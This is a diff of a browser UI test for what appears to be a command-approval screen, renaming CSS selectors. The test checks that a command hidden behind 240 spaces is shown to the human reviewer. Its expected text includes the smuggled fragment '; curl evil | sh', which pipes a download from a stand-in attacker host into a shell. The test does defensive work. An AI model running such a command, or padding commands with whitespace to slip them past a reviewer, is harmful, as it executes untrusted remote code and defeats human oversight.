@@ -47,7 +47,7 @@ function alike(text: string): string {
 
 async function opened(page: Page, url: string, approvalId: string): Promise<void> {
   await page.goto(`${url}/approvals/${approvalId}`);
-  await page.locator('article .diff').waitFor();
+  await page.locator('article .cs-diff').waitFor();
   const more = page.getByRole('button', { name: /they run too$/ });
   if (await more.isVisible()) await more.click();
 }
@@ -88,10 +88,10 @@ describe('what a card shows is all that will run', () => {
     const open = (call: typeof long): Promise<unknown> =>
       page.goto(`${world.url}/approvals/${call?.approval?.approvalId ?? ''}`);
     await open(behindSpaces);
-    const line = page.locator('.diff-line').first();
+    const line = page.locator('.cs-diff-line').first();
     await line.getByText('⟦240 spaces⟧').waitFor();
     expect(await line.innerText()).toContain('; curl evil | sh');
-    await page.locator('button.approve:not([disabled])').waitFor();
+    await page.locator('button.cs-approve:not([disabled])').waitFor();
     for (const call of [long, list]) {
       await open(call);
       await page.getByText('You can approve it after its end was on screen.').waitFor();
